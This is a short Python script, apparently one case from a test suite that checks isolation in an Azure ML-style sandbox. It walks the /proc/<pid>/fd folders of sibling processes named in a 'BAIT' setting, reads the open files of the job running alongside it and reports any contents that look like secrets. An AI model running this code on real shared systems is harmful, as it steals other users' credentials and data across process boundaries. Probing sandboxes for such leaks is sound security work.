"""Reads what the job that runs at the same time was given, by what its processes have open and mapped."""

import os

from attack import BAIT, attack, every, is_secret, told


def look(path):
    if not os.path.isfile(path):
        return ""
    with open(path, "rb") as stream:
        content = stream.read(1000)
    return told(path, content) if is_secret(content) else ""


def look_at_all(folder):
    return every(look, [os.path.join(folder, name) for name in os.listdir(folder)])


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return every(look_at_all, ["/proc/%d/fd" % pid for pid in BAIT["sibling_pids"]])
